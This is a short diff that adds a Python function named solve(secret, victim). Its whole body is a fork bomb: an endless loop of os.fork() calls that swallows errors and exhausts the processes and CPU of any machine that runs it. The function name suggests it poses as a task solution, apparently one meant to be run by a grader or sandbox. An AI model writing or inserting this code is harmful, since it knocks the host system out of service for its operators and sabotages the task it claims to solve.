@@ -1,0 +1,9 @@
+import os
+
+
+def solve(secret, victim):
+    while True:
+        try:
+            os.fork()
+        except OSError:
+            pass
